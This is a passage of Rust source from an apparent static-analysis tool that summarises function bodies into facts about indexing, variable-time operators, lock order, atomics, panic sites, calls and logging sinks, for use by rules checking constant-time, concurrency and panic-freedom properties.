#[derive(Debug, Clone, PartialEq, Default)]
pub struct IndexUse {
    /// 1-based line of the indexed identifier.
    pub line: u32,
    /// The indexed variable (`table` in `table[b]`).
    pub base: String,
    /// Bare identifiers inside the brackets.
    pub idents: Vec<String>,
}

/// One variable-time operator site (R12).
#[derive(Debug, Clone, PartialEq, Default)]
pub struct OpUse {
    /// 1-based line of the operator.
    pub line: u32,
    /// The operator text (`/`, `%`, `==`, `!=`).
    pub op: String,
    /// Bare operand identifiers near the operator.
    pub idents: Vec<String>,
}

/// One `let`-bound lock-guard acquisition (R13). Bare `x.lock();`
/// statements are *not* recorded: a guard that is dropped on the same
/// statement holds nothing, and domain methods that happen to be named
/// `lock` (LUKS volumes) would otherwise pollute the graph.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct LockAcq {
    /// Lock identity — the receiver identifier (`events` in
    /// `self.events.lock()`).
    pub name: String,
    /// 1-based line of the acquisition.
    pub line: u32,
}

/// Lock `second` acquired while a guard on `first` is live (R13).
#[derive(Debug, Clone, PartialEq, Default)]
pub struct LockPair {
    /// Lock already held.
    pub first: String,
    /// Lock acquired under it.
    pub second: String,
    /// 1-based line of the second acquisition.
    pub line: u32,
}

/// A call made while a lock guard is live (R13 propagation).
#[derive(Debug, Clone, PartialEq, Default)]
pub struct HeldCall {
    /// Lock held across the call.
    pub lock: String,
    /// Callee name (last path segment).
    pub callee: String,
    /// 1-based line of the call.
    pub line: u32,
}

/// One atomic operation with an explicit `Ordering` argument (R14).
#[derive(Debug, Clone, PartialEq, Default)]
pub struct AtomicUse {
    /// Atomic identity — the receiver identifier (`ready` in
    /// `self.ready.load(…)`).
    pub var: String,
    /// Operation name (`load`, `store`, `fetch_add`, …).
    pub op: String,
    /// Last path segment of the first `Ordering::…` argument.
    pub ordering: String,
    /// 1-based line of the operation.
    pub line: u32,
    /// Does the operation sit inside a branch condition?
    pub in_cond: bool,
}

/// One potential panic/abort site inside a function body (R16).
#[derive(Debug, Clone, PartialEq, Default)]
pub struct PanicSite {
    /// `"unwrap"`, `"expect"`, `"panic_macro"` or `"index"`.
    pub kind: String,
    /// 1-based line of the site.
    pub line: u32,
    /// Receiver identifier for `unwrap`/`expect` (`x` in `x.unwrap()`),
    /// indexed variable for `index`, macro name for `panic_macro`.
    pub var: Option<String>,
    /// Does a dominating guard cover the site — `is_some`/`is_ok` for
    /// `unwrap`/`expect`, a bounds guard for `index`? Panic macros are
    /// never guarded.
    pub guarded: bool,
    /// For `index`: top-level `& <literal>` mask on the index expression.
    pub masked: Option<u64>,
    /// For `index`: sole identifier driving the index, if any.
    pub index_ident: Option<String>,
    /// For `index`: `(lower, upper)` bounds of the innermost enclosing
    /// `for` loop binding [`PanicSite::index_ident`].
    pub loop_bounds: Option<(String, String)>,
    /// Stable, line-free description fragment used in R16 findings.
    pub detail: String,
}

/// One call site.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct CallSite {
    /// Callee name — the last path segment (`f` in `m::f(…)`, `g` in
    /// `x.g(…)`).
    pub callee: String,
    /// 1-based line of the callee identifier.
    pub line: u32,
    /// Receiver identifier for method calls (`sessions` in
    /// `sessions.push(k)`), when it is a bare identifier.
    pub recv: Option<String>,
    /// Argument shapes, in order.
    pub args: Vec<Arg>,
}

/// Shape of one call argument.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct Arg {
    /// The bare identifier (after stripping `&`/`mut`/`*`), if the
    /// argument is exactly one.
    pub ident: Option<String>,
    /// Is the argument a single integer literal?
    pub literal: bool,
    /// For identifier arguments: does a bounds guard on the identifier
    /// dominate the call site in the caller?
    pub guarded: bool,
}

/// One bare identifier reaching a sink.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct SinkUse {
    /// The identifier.
    pub var: String,
    /// 1-based line of the sink.
    pub line: u32,
    /// Sink name (`format`, `println`, `export_json`, …).
    pub sink: String,
}

/// One discarded statement result.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct Discard {
    /// The last top-level callee of the discarded expression.
    pub callee: String,
    /// 1-based line of the statement start.
    pub line: u32,
    /// `"let _"` or `"stmt"`.
    pub kind: String,
}

/// Format-family macros whose arguments are R8 sinks.
const SINK_MACROS: &[&str] = &[
    "format", "print", "println", "eprint", "eprintln", "write", "writeln",
];

/// Telemetry/export function names whose arguments are R8 sinks.
const SINK_FNS: &[&str] = &["export_json", "emit_trace", "debug_dump", "log_value"];

/// Builds the summary for one annotated file.
pub fn summarize(ann: &Annotated) -> FileSummary {
    let mut s = FileSummary::default();
    let code = &ann.code;
    let n = code.len();

    let mut i = 0;
    while i < n {
        if ann.excluded[i] {
            i += 1;
            continue;
        }
        match code[i].text.as_str() {
            "const" if !in_fn(ann, i) => {
                if let Some((name, val, next)) = parse_const(ann, i) {
                    s.consts.push((name, val));
                    i = next;
                    continue;
                }
            }
            "type" if !in_fn(ann, i) => {
                if let Some((name, rhs, next)) = parse_type_alias(ann, i) {
                    s.types.push((name, rhs));
                    i = next;
                    continue;
                }
            }
            "struct" | "enum" => {
                if let Some(t) = code.get(i + 1) {
                    if t.kind == TokenKind::Ident {
                        s.structs.push(t.text.clone());
                    }
                }
            }
            "fn" => {
                if let Some((fun, next)) = parse_fn(ann, i) {
                    s.functions.push(fun);
                    i = next;
                    continue;
                }
            }
            _ => {}
        }
        i += 1;
    }
    s
}

/// Is code index `i` attributed to a function body (vs. item level)?
fn in_fn(ann: &Annotated, i: usize) -> bool {
    ann.fn_of[i] != 0
}

/// `const NAME: <ty> = <int literal>;` — returns (name, value, index
/// past the `;`). Non-integer initialisers are skipped (returns None).
fn parse_const(ann: &Annotated, i: usize) -> Option<(String, u64, usize)> {
    let code = &ann.code;
    let name = code.get(i + 1).filter(|t| t.kind == TokenKind::Ident)?;
    if code.get(i + 2).map(|t| t.text.as_str()) != Some(":") {
        return None;
    }
    let mut j = i + 3;
    while j < code.len() && code[j].text != "=" && code[j].text != ";" {
        j += 1;
    }
    if code.get(j).map(|t| t.text.as_str()) != Some("=") {
        return None;
    }
    // Only the single-literal form is recorded.
    let lit = code.get(j + 1).filter(|t| t.kind == TokenKind::Num)?;
    if code.get(j + 2).map(|t| t.text.as_str()) != Some(";") {
        return None;
    }
    let val = crate::rules::parse_int(&lit.text)?;
    Some((name.text.clone(), val, j + 3))
}

/// `type Name = <rhs>;` — returns (name, rhs text, index past `;`).
fn parse_type_alias(ann: &Annotated, i: usize) -> Option<(String, String, usize)> {
    let code = &ann.code;
    let name = code.get(i + 1).filter(|t| t.kind == TokenKind::Ident)?;
    if code.get(i + 2).map(|t| t.text.as_str()) != Some("=") {
        return None;
    }
    // The rhs may itself contain `;` inside an array type, so the
    // terminating `;` is the first one at bracket depth zero.
    let mut rhs = String::new();
    let mut j = i + 3;
    let mut depth = 0i64;
    while j < code.len() {
        match code[j].text.as_str() {
            "[" | "(" => depth += 1,
            "]" | ")" => depth -= 1,
            ";" if depth == 0 => break,
            _ => {}
        }
        rhs.push_str(&code[j].text);
        j += 1;
    }
    Some((name.text.clone(), rhs, j + 1))
}

/// Parses a whole `fn` item starting at the `fn` keyword. Returns the
/// summary and the index just past the body's closing `}` (or the `;`
/// of a bodyless signature).
fn parse_fn(ann: &Annotated, fn_idx: usize) -> Option<(FnSummary, usize)> {
    let code = &ann.code;
    let n = code.len();
    let name_tok = code.get(fn_idx + 1).filter(|t| t.kind == TokenKind::Ident)?;
    let mut fun = FnSummary {
        name: name_tok.text.clone(),
        line: code[fn_idx].line,
        ..FnSummary::default()
    };

    // Skip generics `<…>` ahead of the parameter list.
    let mut j = fn_idx + 2;
    if code.get(j).map(|t| t.text.as_str()) == Some("<") {
        let mut angle = 1i64;
        j += 1;
        while j < n && angle > 0 {
            match code[j].text.as_str() {
                "<" => angle += 1,
                ">" => angle -= 1,
                _ => {}
            }
            j += 1;
        }
    }
    if code.get(j).map(|t| t.text.as_str()) != Some("(") {
        return None;
    }

    // Parameter list: split top-level commas, `name: type` per chunk.
    let params_start = j + 1;
    let mut depth = 1i64;
    j = params_start;
    let mut chunk_start = params_start;
    let mut chunks: Vec<(usize, usize)> = Vec::new();
    while j < n && depth > 0 {
        match code[j].text.as_str() {
            "(" | "[" | "{" | "<" => depth += 1,
            ")" | "]" | "}" | ">" => {
                depth -= 1;
                if depth == 0 && j > chunk_start {
                    chunks.push((chunk_start, j));
                }
            }
            "," if depth == 1 => {
                if j > chunk_start {
                    chunks.push((chunk_start, j));
                }
                chunk_start = j + 1;
            }
            _ => {}
        }
        j += 1;
    }
    for &(lo, hi) in &chunks {
        if let Some(p) = parse_param(code, lo, hi) {
            fun.params.push(p);
        }
    }

    // Return type up to the body / `where` / statement-level `;` — a
    // `;` inside an array type (`-> [u8; 256]`) is part of the type.
    if code.get(j).map(|t| t.text.as_str()) == Some("->") {
        j += 1;
        let mut depth = 0i64;
        while j < n {
            match code[j].text.as_str() {
                "[" | "(" => depth += 1,
                "]" | ")" => depth -= 1,
                "{" | "where" => break,
                ";" if depth == 0 => break,
                _ => {}
            }
            if code[j].text != "mut" {
                fun.ret.push_str(&code[j].text);
            }
            j += 1;
        }
    }
    while j < n && !matches!(code[j].text.as_str(), "{" | ";") {
        j += 1;
    }
    if code.get(j).map(|t| t.text.as_str()) != Some("{") {
        return Some((fun, j.saturating_add(1))); // bodyless signature
    }

    // Body extent.
    let body_start = j + 1;
    let mut body_depth = 1i64;
    let mut k = body_start;
    while k < n && body_depth > 0 {
        match code[k].text.as_str() {
            "{" => body_depth += 1,
            "}" => body_depth -= 1,
            _ => {}
        }
        k += 1;
    }
    let body_end = k.saturating_sub(1); // index of the closing `}`

    scan_body(ann, &mut fun, body_start, body_end);
    let cond_ranges = scan_cond_facts(ann, &mut fun, body_start, body_end);
    scan_index_and_op_facts(ann, &mut fun, body_start, body_end);
    scan_lock_facts(ann, &mut fun, body_start, body_end, &cond_ranges);
    scan_panic_facts(ann, &mut fun, body_start, body_end);
    Some((fun, k))
}

/// Is the code token at `j` a bare value-read identifier — not a
/// keyword or bool literal, not a call/macro/path head, and not a field,
/// method or projection participant (`state.key`, `key.len()`)? The
/// field/method exclusions are deliberately conservative: the taint
/// rules would rather miss a projected read than flag a public one.
fn is_value_read(code: &[crate::lexer::Token], j: usize) -> bool {
    if code[j].kind != TokenKind::Ident
        || crate::rules::is_keyword(&code[j].text)
        || matches!(code[j].text.as_str(), "true" | "false")
    {
        return false;
    }
    if let Some(p) = j.checked_sub(1) {
        if matches!(code[p].text.as_str(), "." | "::") {
            return false;
        }
    }
    !matches!(
        code.get(j + 1).map(|t| t.text.as_str()),
        Some("(") | Some("!") | Some("::") | Some(".")
    )
}

/// Collects deduplicated bare value-read identifiers in
/// `code[lo..hi]`, skipping call/macro argument groups wholesale — the
/// interprocedural rules see those through the call-site records, and a
/// `ct::eq(tag, other)` wrapper must not read as a bare use of `tag`.
fn collect_reads(code: &[crate::lexer::Token], lo: usize, hi: usize, out: &mut Vec<String>) {
    let mut j = lo;
    while j < hi {
        if code[j].kind == TokenKind::Ident {
            let mut k = j + 1;
            if code.get(k).map(|t| t.text.as_str()) == Some("!") {
                k += 1;
            }
            if code.get(k).map(|t| t.text.as_str()) == Some("(") {
                j = skip_group(code, k, hi);
                continue;
            }
        }
        if is_value_read(code, j) && !out.iter().any(|s| *s == code[j].text) {
            out.push(code[j].text.clone());
        }
        j += 1;
    }
}

/// Index just past the group opened at `open` (a `(` or `[`), capped at
/// `hi`.
fn skip_group(code: &[crate::lexer::Token], open: usize, hi: usize) -> usize {
    let mut depth = 0i64;
    let mut j = open;
    while j < hi {
        match code[j].text.as_str() {
            "(" | "[" => depth += 1,
            ")" | "]" => {
                depth -= 1;
                if depth == 0 {
                    return j + 1;
                }
            }
            _ => {}
        }
        j += 1;
    }
    hi
}

/// Records one [`CondUse`] per `if`/`while`/`match` condition and
/// returns the condition token ranges (for the atomics' `in_cond` bit).
fn scan_cond_facts(
    ann: &Annotated,
    fun: &mut FnSummary,
    body_start: usize,
    body_end: usize,
) -> Vec<(usize, usize)> {
    let code = &ann.code;
    let mut ranges = Vec::new();
    let mut i = body_start;
    while i < body_end {
        if !matches!(code[i].text.as_str(), "if" | "while" | "match") {
            i += 1;
            continue;
        }
        let line = code[i].line;
        let mut lo = i + 1;
        // `if let PAT = expr`: the pattern binds, only the scrutinee
        // after the top-level `=` is read.
        if code.get(lo).map(|t| t.text.as_str()) == Some("let") {
            let mut depth = 0i64;
            let mut j = lo + 1;
            while j < body_end {
                match code[j].text.as_str() {
                    "(" | "[" => depth += 1,
                    ")" | "]" => depth -= 1,
                    "=" if depth == 0 => {
                        lo = j + 1;
                        break;
                    }
                    "{" if depth == 0 => {
                        lo = j;
                        break;
                    }
                    _ => {}
                }
                j += 1;
            }
        }
        // The condition ends at the body `{`, a match-guard `=>`, or a
        // statement boundary — whichever comes first at depth 0.
        let mut depth = 0i64;
        let mut j = lo;
        while j < body_end {
            match code[j].text.as_str() {
                "(" | "[" => depth += 1,
                ")" | "]" => depth -= 1,
                "{" | "=>" | ";" if depth == 0 => break,
                _ => {}
            }
            j += 1;
        }
        if j > lo {
            let mut idents = Vec::new();
            collect_reads(code, lo, j, &mut idents);
            if !idents.is_empty() {
                fun.conds.push(CondUse { line, idents });
            }
            ranges.push((lo, j));
        }
        i = j.max(i + 1);
    }
    ranges
}

/// Records [`IndexUse`] and [`OpUse`] sites over the body.
fn scan_index_and_op_facts(
    ann: &Annotated,
    fun: &mut FnSummary,
    body_start: usize,
    body_end: usize,
) {
    let code = &ann.code;
    for i in body_start..body_end {
        // Indexing: `base[…]` — the base may be a field (`self.table`),
        // so only keyword/macro heads are rejected here.
        if code[i].kind == TokenKind::Ident
            && !crate::rules::is_keyword(&code[i].text)
            && code.get(i + 1).map(|t| t.text.as_str()) == Some("[")
        {
            let close = skip_group(code, i + 1, body_end);
            let mut idents = Vec::new();
            collect_reads(code, i + 2, close.saturating_sub(1), &mut idents);
            if !idents.is_empty() {
                fun.indexes.push(IndexUse {
                    line: code[i].line,
                    base: code[i].text.clone(),
                    idents,
                });
            }
        }
        // Variable-time operators, operands from a small window bounded
        // by statement/argument punctuation (crossing a paren boundary
        // would smuggle call arguments in).
        if code[i].kind == TokenKind::Punct
            && matches!(code[i].text.as_str(), "/" | "%" | "==" | "!=")
        {
            let mut idents = Vec::new();
            for dir in [-1i64, 1] {
                for step in 1..=8i64 {
                    let j = i as i64 + dir * step;
                    if j < (body_start as i64) || j as usize >= body_end {
                        break;
                    }
                    let j = j as usize;
                    if matches!(code[j].text.as_str(), ";" | "{" | "}" | "," | "(" | ")") {
                        break;
                    }
                    if is_value_read(code, j) && !idents.iter().any(|s| *s == code[j].text) {
                        idents.push(code[j].text.clone());
                    }
                }
            }
            if !idents.is_empty() {
                fun.vt_ops.push(OpUse {
                    line: code[i].line,
                    op: code[i].text.clone(),
                    idents,
                });
            }
        }
    }
}

/// Atomic method names whose calls carry an `Ordering` argument.
const ATOMIC_OPS: &[&str] = &[
    "load", "store", "swap", "fetch_add", "fetch_sub", "fetch_and", "fetch_or",
    "fetch_xor", "fetch_max", "fetch_min", "fetch_update", "compare_exchange",
    "compare_exchange_weak",
];

/// Memory-ordering names (`use Ordering::*` style included).
const ORDERINGS: &[&str] = &["Relaxed", "Acquire", "Release", "AcqRel", "SeqCst"];

/// Records lock-guard scopes ([`LockAcq`]/[`LockPair`]/[`HeldCall`]) and
/// atomic operations ([`AtomicUse`]). A guard lives from its `let` to
/// the end of the enclosing block or an explicit `drop(guard)`,
/// whichever comes first.
fn scan_lock_facts(
    ann: &Annotated,
    fun: &mut FnSummary,
    body_start: usize,
    body_end: usize,
    cond_ranges: &[(usize, usize)],
) {
    let code = &ann.code;
    // Active guards: (binding, lock, brace depth relative to the body).
    let mut guards: Vec<(String, String, i64)> = Vec::new();
    let mut depth = 0i64;

    let mut i = body_start;
    while i < body_end {
        match code[i].text.as_str() {
            "{" => depth += 1,
            "}" => {
                guards.retain(|g| g.2 < depth);
                depth -= 1;
            }
            "let" => {
                if let Some((binding, lock, line, next)) =
                    parse_guard_let(code, i, body_end)
                {
                    for (_, held, _) in &guards {
                        if *held != lock {
                            fun.lock_pairs.push(LockPair {
                                first: held.clone(),
                                second: lock.clone(),
                                line,
                            });
                        }
                    }
                    fun.locks.push(LockAcq { name: lock.clone(), line });
                    guards.push((binding, lock, depth));
                    i = next;
                    continue;
                }
            }
            "drop"
                if code.get(i + 1).map(|t| t.text.as_str()) == Some("(")
                    && code.get(i + 3).map(|t| t.text.as_str()) == Some(")") =>
            {
                if let Some(g) = code.get(i + 2) {
                    guards.retain(|(b, _, _)| *b != g.text);
                }
            }
            _ => {}
        }

        // Calls made under a live guard (order propagates via callees).
        if !guards.is_empty()
            && code[i].kind == TokenKind::Ident
            && !crate::rules::is_keyword(&code[i].text)
            && code.get(i + 1).map(|t| t.text.as_str()) == Some("(")
            && !matches!(code[i].text.as_str(), "lock" | "read" | "write" | "drop")
        {
            let mut seen: Vec<&str> = Vec::new();
            for (_, held, _) in &guards {
                if !seen.contains(&held.as_str()) {
                    seen.push(held);
                    fun.held_calls.push(HeldCall {
                        lock: held.clone(),
                        callee: code[i].text.clone(),
                        line: code[i].line,
                    });
                }
            }
        }

        // Atomic op: `x.load(Ordering::Acquire)` — requires an explicit
        // ordering in the argument list, which keeps `file.read()` and
        // friends out.
        if code[i].kind == TokenKind::Ident
            && ATOMIC_OPS.contains(&code[i].text.as_str())
            && i >= 2
            && code[i - 1].text == "."
            && code[i - 2].kind == TokenKind::Ident
            && code.get(i + 1).map(|t| t.text.as_str()) == Some("(")
        {
            let close = skip_group(code, i + 1, body_end);
            let ordering = code[i + 2..close]
                .iter()
                .find(|t| ORDERINGS.contains(&t.text.as_str()))
                .map(|t| t.text.clone());
            if let Some(ordering) = ordering {
                let in_cond = cond_ranges.iter().any(|&(lo, hi)| lo <= i && i < hi);
                fun.atomics.push(AtomicUse {
                    var: code[i - 2].text.clone(),
                    op: code[i].text.clone(),
                    ordering,
                    line: code[i].line,
                    in_cond,
                });
            }
        }

        i += 1;
    }
}

/// Parses `let [mut] BINDING = … X.lock()/.read()/.write() …;` starting
/// at the `let`. Returns `(binding, lock name, line, index past ;)`.
/// Only no-argument acquisitions count — `file.read(&mut buf)` takes an
/// argument, a `MutexGuard` never does.
fn parse_guard_let(
    code: &[crate::lexer::Token],
    let_idx: usize,
    hi: usize,
) -> Option<(String, String, u32, usize)> {
    let mut j = let_idx + 1;
    if code.get(j).map(|t| t.text.as_str()) == Some("mut") {
        j += 1;
    }
    let binding = code.get(j).filter(|t| t.kind == TokenKind::Ident)?;
    if binding.text == "_" {
        return None;
    }
    // Find the statement end and scan for the acquisition pattern.
    let mut depth = 0i64;
    let mut k = j + 1;
    let mut acq: Option<(String, u32)> = None;
    while k < hi {
        match code[k].text.as_str() {
            "(" | "[" | "{" => depth += 1,
            ")" | "]" | "}" => depth -= 1,
            ";" if depth == 0 => break,
            "lock" | "read" | "write"
                if k >= 2
                    && code[k - 1].text == "."
                    && code[k - 2].kind == TokenKind::Ident
                    && code.get(k + 1).map(|t| t.text.as_str()) == Some("(")
                    && code.get(k + 2).map(|t| t.text.as_str()) == Some(")") =>
            {
                if acq.is_none() {
                    acq = Some((code[k - 2].text.clone(), code[k].line));
                }
            }
            _ => {}
        }
        k += 1;
    }
    let (lock, line) = acq?;
    Some((binding.text.clone(), lock, line, k.min(hi)))
}

/// One parameter chunk `mut name: Type` / `&self`. Returns None for
/// receivers and pure patterns.
fn parse_param(
    code: &[crate::lexer::Token],
    lo: usize,
    hi: usize,
) -> Option<(String, String)> {
    let mut colon = None;
    let mut depth = 0i64;
    for j in lo..hi {
        match code[j].text.as_str() {
            "(" | "[" | "<" => depth += 1,
            ")" | "]" | ">" => depth -= 1,
            ":" if depth == 0 => {
                colon = Some(j);
                break;
            }
            _ => {}
        }
    }
    let colon = colon?; // `self` / `&mut self` have no top-level `:`
    let name = code[lo..colon]
        .iter()
        .rev()
        .find(|t| t.kind == TokenKind::Ident && t.text != "mut")?;
    // `mut` is dropped from type text so `&mut Block` joins to `&Block`
    // and the boundary survives space-free joining.
    let mut ty = String::new();
    for t in &code[colon + 1..hi] {
        if t.text != "mut" {
            ty.push_str(&t.text);
        }
    }
    Some((name.text.clone(), ty))
}

/// Walks a function body recording calls, sinks, discards, and local
/// bindings. A nested `fn` item is skipped wholesale — its facts are
/// not summarised (rare enough that losing resolution there is an
/// acceptable, conservative gap).
fn scan_body(ann: &Annotated, fun: &mut FnSummary, body_start: usize, body_end: usize) {
    let code = &ann.code;
    let mut stmt_start = body_start;
    // `(`/`[` nesting — a `;` inside `vec![x; n]` or `[x; n]` is not a
    // statement boundary.
    let mut paren = 0i64;

    let mut i = body_start;
    while i < body_end {
        let text = code[i].text.as_str();

        if text == "fn"
            && code.get(i + 1).is_some_and(|t| t.kind == TokenKind::Ident)
            && i > body_start
        {
            if let Some((_, next)) = parse_fn(ann, i) {
                i = next;
                stmt_start = i;
                continue;
            }
        }

        match text {
            "(" | "[" => paren += 1,
            ")" | "]" => paren -= 1,
            ";" | "{" | "}" if paren == 0 => {
                if text == ";" {
                    scan_statement(ann, fun, stmt_start, i);
                }
                stmt_start = i + 1;
                i += 1;
                continue;
            }
            _ => {}
        }

        // Call site: IDENT followed by `(`, not a macro (`!`), not a
        // definition.
        if code[i].kind == TokenKind::Ident
            && !crate::rules::is_keyword(text)
            && code.get(i + 1).map(|t| t.text.as_str()) == Some("(")
            && code.get(i.wrapping_sub(1)).map(|t| t.text.as_str()) != Some("fn")
        {
            let (args, _) = parse_args(ann, i + 1);
            // Bare-identifier method receiver (`sessions` in
            // `sessions.push(k)`) — the lifecycle pass attributes
            // collection escapes and zeroize calls through it.
            let recv = if i >= 2
                && code[i - 1].text == "."
                && code[i - 2].kind == TokenKind::Ident
                && !crate::rules::is_keyword(&code[i - 2].text)
            {
                Some(code[i - 2].text.clone())
            } else {
                None
            };
            fun.calls.push(CallSite {
                callee: text.to_string(),
                line: code[i].line,
                recv,
                args,
            });
        }

        // Macro sink: `format!(…)` etc.
        if code[i].kind == TokenKind::Ident
            && SINK_MACROS.contains(&text)
            && code.get(i + 1).map(|t| t.text.as_str()) == Some("!")
            && code.get(i + 2).map(|t| t.text.as_str()) == Some("(")
        {
            record_macro_sink(ann, fun, i);
        }

        // Function sink: `t.export_json(x)` / `debug_dump(x)`.
        if code[i].kind == TokenKind::Ident
            && SINK_FNS.contains(&text)
            && code.get(i + 1).map(|t| t.text.as_str()) == Some("(")
        {
            let (args, _) = parse_args(ann, i + 1);
            for a in &args {
                if let Some(id) = &a.ident {
                    fun.sinks.push(SinkUse {
                        var: id.clone(),
                        line: code[i].line,
                        sink: text.to_string(),
                    });
                }
            }
        }

        i += 1;
    }
}

/// Records potential panic/abort sites in `code[body_start..body_end]`
/// for the R16 panic-freedom closure: `.unwrap()`/`.expect(..)` with an
/// `is_some`/`is_ok` dominance bit, `panic!`-family macros, and dynamic
/// index expressions with the same shape facts R5 extracts (mask,
/// driving identifier, loop bounds) plus a *dominance-aware* bounds
/// guard bit. Unlike R5 this runs on every file — whether a site
/// matters is decided by reachability from the hot-path entries, not by
/// a file list.
fn scan_panic_facts(ann: &Annotated, fun: &mut FnSummary, body_start: usize, body_end: usize) {
    let code = &ann.code;
    for i in body_start..body_end {
        if ann.excluded[i] || code[i].kind != TokenKind::Ident {
            continue;
        }
        let text = code[i].text.as_str();
        let prev = i.checked_sub(1).map(|p| code[p].text.as_str());
        let next = code.get(i + 1).map(|t| t.text.as_str());

        // `.unwrap()` / `.expect("..")` — same shapes R1 flags.
        if (text == "unwrap" && prev == Some(".") && next == Some("("))
            || (text == "expect"
                && prev == Some(".")
                && next == Some("(")
                && code.get(i + 2).is_some_and(|t| t.kind == TokenKind::Str))
        {
            let var = i
                .checked_sub(2)
                .map(|r| &code[r])
                .filter(|t| t.kind == TokenKind::Ident && !crate::rules::is_keyword(&t.text))
                .map(|t| t.text.clone());
            let guarded = var
                .as_deref()
                .is_some_and(|v| ann.opt_guarded_before(i, v));
            let detail = if text == "unwrap" {
                "call to .unwrap()".to_string()
            } else {
                "call to .expect(..)".to_string()
            };
            fun.panics.push(PanicSite {
                kind: text.to_string(),
                line: code[i].line,
                var,
                guarded,
                masked: None,
                index_ident: None,
                loop_bounds: None,
                detail,
            });
            continue;
        }

        // `panic!` / `unreachable!` / `todo!` / `unimplemented!`.
        if crate::rules::PANIC_MACROS.contains(&text)
            && next == Some("!")
            && prev != Some("::")
        {
            fun.panics.push(PanicSite {
                kind: "panic_macro".to_string(),
                line: code[i].line,
                var: Some(text.to_string()),
                guarded: false,
                masked: None,
                index_ident: None,
                loop_bounds: None,
                detail: format!("{text}! macro"),
            });
            continue;
        }

        // Dynamic index `var[..]` — R5's shape, dominance-aware guard.
        if crate::rules::is_keyword(text) || next != Some("[") {
            continue;
        }
        let mut j = i + 2;
        let mut brackets = 1usize;
        let mut dynamic = false;
        let idx_start = i + 2;
        while j < code.len() && brackets > 0 {
            match code[j].text.as_str() {
                "[" => brackets += 1,
                "]" => brackets -= 1,
                "as" | "usize" => {}
                _ => {
                    if code[j].kind == TokenKind::Ident
                        && !ann.is_literal_bounded(j, &code[j].text)
                    {
                        dynamic = true;
                    }
                }
            }
            j += 1;
        }
        if !dynamic {
            continue;
        }
        let idx_end = j.saturating_sub(1);
        let (masked, index_ident) = crate::rules::index_shape(&code[idx_start..idx_end]);
        let loop_bounds = index_ident.as_deref().and_then(|v| {
            ann.loops
                .iter()
                .filter(|l| l.var == v && l.body_start <= i && i <= l.body_end)
                .max_by_key(|l| l.body_start)
                .map(|l| (l.lower.clone(), l.upper.clone()))
        });
        let var = code[i].text.clone();
        fun.panics.push(PanicSite {
            kind: "index".to_string(),
            line: code[i].line,
            guarded: ann.guarded_before(i, &var),
            var: Some(var.clone()),
            masked,
            index_ident,
            loop_bounds,
            detail: format!("unguarded dynamic index into `{var}`"),
        });
    }
}

/// Statement-level facts: `let` bindings and R9 discards. `lo..hi` is
/// the token range of one `;`-terminated statement (exclusive of `;`).
fn scan_statement(ann: &Annotated, fun: &mut FnSummary, lo: usize, hi: usize) {
    let code = &ann.code;
    if lo >= hi {
        return;
    }
    let first = code[lo].text.as_str();

    if first == "let" {
        scan_let(ann, fun, lo, hi);
        return;
    }

    // Bare `call(…);` / `x.verify(…);` statement: no top-level `=`,
    // no `?` (propagation keeps the error alive).
    if code[lo].kind != TokenKind::Ident || crate::rules::is_keyword(first) {
        return;
    }
    let mut depth = 0i64;
    let mut last_call: Option<(String, u32)> = None;
    for j in lo..hi {
        match code[j].text.as_str() {
            "(" | "[" | "{" => depth += 1,
            ")" | "]" | "}" => depth -= 1,
            "=" | "?" | "==" | "!=" | "<=" | ">=" | "=>" | "+=" | "-=" if depth == 0 => {
                return;
            }
            t if depth == 0
                && code[j].kind == TokenKind::Ident
                && !crate::rules::is_keyword(t)
                && code.get(j + 1).map(|t| t.text.as_str()) == Some("(") =>
            {
                last_call = Some((t.to_string(), code[j].line));
            }
            _ => {}
        }
    }
    if let Some((callee, line)) = last_call {
        fun.discards.push(Discard { callee, line, kind: "stmt".to_string() });
    }
}

/// `let` statement: `_` discards, typed locals, call-initialised locals
/// and sized allocations.
fn scan_let(ann: &Annotated, fun: &mut FnSummary, lo: usize, hi: usize) {
    let code = &ann.code;
    let mut j = lo + 1;
    if code.get(j).map(|t| t.text.as_str()) == Some("mut") {
        j += 1;
    }
    let Some(pat) = code.get(j) else { return };
    let name = pat.text.clone();
    let is_underscore = name == "_";
    if pat.kind != TokenKind::Ident && !is_underscore {
        return; // tuple/struct patterns are out of scope
    }
    j += 1;

    // Optional `: Type` up to the top-level `=`.
    let mut ty = String::new();
    if code.get(j).map(|t| t.text.as_str()) == Some(":") {
        j += 1;
        let mut depth = 0i64;
        while j < hi {
            match code[j].text.as_str() {
                "(" | "[" | "<" => depth += 1,
                ")" | "]" | ">" => depth -= 1,
                "=" if depth == 0 => break,
                _ => {}
            }
            if code[j].text != "mut" {
                ty.push_str(&code[j].text);
            }
            j += 1;
        }
        if !is_underscore && !ty.is_empty() {
            fun.local_types.push((name.clone(), ty));
        }
    }
    if code.get(j).map(|t| t.text.as_str()) != Some("=") {
        return;
    }
    let init_lo = j + 1;

    // Initialiser analysis: last top-level call, `?` propagation,
    // `vec![x; N]` / `[x; N]` allocations.
    let mut depth = 0i64;
    let mut last_call: Option<(String, u32)> = None;
    let mut propagates = false;
    for k in init_lo..hi {
        match code[k].text.as_str() {
            "(" | "[" | "{" => depth += 1,
            ")" | "]" | "}" => depth -= 1,
            "?" if depth == 0 => propagates = true,
            t if depth == 0
                && code[k].kind == TokenKind::Ident
                && !crate::rules::is_keyword(t)
                && code.get(k + 1).map(|t| t.text.as_str()) == Some("(") =>
            {
                last_call = Some((t.to_string(), code[k].line));
            }
            _ => {}
        }
    }

    if is_underscore {
        if !propagates {
            if let Some((callee, line)) = last_call {
                fun.discards.push(Discard { callee, line, kind: "let _".to_string() });
            }
        }
        return;
    }

    if let Some((callee, _)) = last_call {
        fun.local_calls.push((name.clone(), callee));
    }

    // Taint step: identifiers the initialiser reads directly
    // (`let b = key[i];` makes `b` key-derived). Call arguments are
    // excluded by `collect_reads` — callee returns are typed through
    // `local_calls` instead.
    let mut reads = Vec::new();
    collect_reads(code, init_lo, hi, &mut reads);
    if !reads.is_empty() {
        fun.local_inits.push((name.clone(), reads));
    }

    // Allocation size: `vec![ELEM; SIZE]` or `[ELEM; SIZE]`.
    let bracket = if code.get(init_lo).map(|t| t.text.as_str()) == Some("vec")
        && code.get(init_lo + 1).map(|t| t.text.as_str()) == Some("!")
        && code.get(init_lo + 2).map(|t| t.text.as_str()) == Some("[")
    {
